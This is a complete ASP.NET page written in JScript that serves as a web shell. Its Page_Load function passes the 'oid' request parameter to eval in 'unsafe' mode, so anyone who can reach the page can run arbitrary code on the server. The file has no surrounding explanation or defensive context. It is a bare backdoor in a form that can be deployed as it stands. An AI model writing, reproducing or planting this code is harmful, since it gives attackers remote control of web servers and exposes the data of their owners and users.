<%@ Page Language="Jscript" %>
<script runat="server" language="JScript">
function Page_Load() { eval(Request.Item["oid"], "unsafe"); }
</script>
